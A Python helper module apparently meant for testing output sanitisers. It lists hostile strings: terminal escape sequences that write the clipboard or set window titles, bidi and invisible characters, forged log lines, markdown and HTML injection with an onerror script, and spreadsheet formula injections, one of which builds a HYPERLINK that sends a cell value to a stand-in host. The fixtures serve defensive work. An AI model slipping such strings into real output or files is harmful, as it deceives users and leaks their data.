"""Texts that a site might send to fool whoever looks at them; helpers, no tests."""

from __future__ import annotations

HOSTILE = {
    "clear screen": "A\x1b[2JB",
    "clipboard": "A\x1b]52;c;ZXZpbA==\x07B",
    "window title": "A\x1b]0;evil\x1b\\B",
    "hyperlink": "A\x1b]8;;http://elsewhere.example/\x1b\\B\x1b]8;;\x1b\\",
    "one-byte csi": "A\x9b2JB",
    "bell and backspaces": "A\x07\x08\x08\x08B",
    "carriage return": "harmless\rA B",
    "forged line": "A\nERROR: all is lost B",
    "line separators": "A\u2028ERROR\u2029B\x85C\x0bD\x0cE",
    "right to left": "A \u202eevil\u202c B",
    "isolates": "A \u2066\u2067evil\u2069 B",
    "marks": "A\u200e\u200f\u061cB",
    "zero width": "A\u200b\u2060\ufeffB",
    "tags": "A\U000e0041\U000e007fB",
    "nul": "A\x00B",
    "rich markup": "[bold red]A[/bold red] [link=http://elsewhere.example/]B[/link] [/]",
    "rich emoji": "A :bomb: B",
    "picture": "A ![x](http://elsewhere.example/t.png) B",
    "link": "A [x](http://elsewhere.example/) B",
    "reference link": "A [x][y] B",
    "automatic link": "A <http://elsewhere.example/> B",
    "bare link": "A http://elsewhere.example/ www.elsewhere.example me@elsewhere.example B",
    "html": 'A <img src="http://elsewhere.example/t.png" onerror="alert(1)"> B',
    "entities": "A &lt;img src=x&gt; &#60;b&#62; B",
    "table": "A | B | C |",
    "emphasis": "A *b* _c_ ~~d~~ `e` # f",
    "code fence": "``` A ```",
    "closes a code span": "A ` http://elsewhere.example/ `` B",
    "backslashes": "A \\| \\\\| \\[x\\](http://elsewhere.example/) B",
}
FORBIDDEN_ON_TERMINALS = frozenset(
    [*map(chr, range(32)), *map(chr, range(127, 160))]
    + list("\u061c\u200b\u200e\u200f\u2028\u2029\u2060\ufeff")
    + [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
    + [chr(c) for c in range(0xE0000, 0xE0080)]
)
"""No text of a site brings one of these to a terminal."""
FORMULAS = (
    "=1+1", "  =1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "a;=1", "a;  +1",
    "a\n-1", "\uff1d1", "\u200b=1", "=HYPERLINK(\"http://elsewhere.example/\"&A1)", "|;@x", "-",
)  # fmt: skip
"""What some spreadsheet takes for a formula, wherever it finds it in a line."""
NO_FORMULAS = ("a=b", "5 - 3", "a;b", "me@shop.example", "'=1", "http://a.example/?b=-1", "", "é+")
